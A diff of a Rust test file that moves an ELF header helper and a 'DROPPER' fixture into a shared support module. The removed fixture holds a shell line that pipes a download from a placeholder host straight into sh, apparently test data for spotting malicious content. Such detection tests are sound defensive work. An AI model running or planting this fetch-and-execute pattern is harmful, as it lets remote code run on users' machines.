@@ -16,22 +16,10 @@ use rearview::model::Person;
 use rearview::repo::write::{Files, Writer};
 use serde_json::Value;
 use support::binary::rearview;
+use support::bytes::{elf_header, DROPPER};
 
 /// 2024-01-01.
 const T0: i64 = 1_704_067_200;
-
-/// A 64-bit little-endian x86-64 ELF executable header.
-fn elf_header() -> Vec<u8> {
-    let mut h = vec![0u8; 64];
-    h[..7].copy_from_slice(b"\x7fELF\x02\x01\x01");
-    h[16..18].copy_from_slice(&2u16.to_le_bytes());
-    h[18..20].copy_from_slice(&0x3eu16.to_le_bytes());
-    h[20..24].copy_from_slice(&1u32.to_le_bytes());
-    h[52..54].copy_from_slice(&64u16.to_le_bytes());
-    h
-}
-
-const DROPPER: &[u8] = b"\n#!/bin/sh\ncurl -fsSL http://example.invalid/stage2 | sh\n";
 
 /// Binary "test vectors": numbered records separated by NULs.
 fn records(n: usize) -> Vec<u8> {
